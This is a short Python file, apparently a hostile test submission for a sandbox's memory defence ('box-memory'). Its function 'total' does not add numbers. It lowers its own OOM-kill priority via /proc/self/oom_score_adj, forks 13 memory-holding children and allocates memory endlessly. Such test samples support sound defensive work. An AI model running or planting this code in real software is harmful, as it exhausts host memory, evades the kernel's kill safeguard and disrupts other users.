"""out_of_memory: makes itself the last to be killed, and fills memory with many small processes

Defence: box-memory
"""

import os
import time
from pathlib import Path

from honest import *


def total(numbers, note=""):
    for wanted in ("-1000", "-500", "0"):
        try:
            Path("/proc/self/oom_score_adj").write_text(wanted)
            break
        except OSError:
            continue
    for _ in range(13):
        if os.fork() == 0:
            kept = b"x" * (14 << 20)
            time.sleep(60)
    kept = []
    while True:
        kept.append(b"x" * (1 << 20))
